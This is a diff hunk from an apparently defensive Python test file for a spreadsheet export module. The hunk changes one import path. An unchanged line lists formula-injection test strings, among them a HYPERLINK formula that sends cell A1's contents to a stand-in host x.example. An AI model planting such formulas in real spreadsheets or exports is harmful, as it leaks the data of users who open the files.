@@ -8,7 +8,7 @@ from zipfile import ZipFile
 
 from openpyxl import Workbook, load_workbook
 
-from itss_warehouse.xlsx import LOCAL_TIMEZONE, Formatted, add_table_sheet, workbook_bytes
+from itss_warehouse.reports.xlsx import LOCAL_TIMEZONE, Formatted, add_table_sheet, workbook_bytes
 
 HOSTILE = ['=HYPERLINK("http://x.example/"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
 
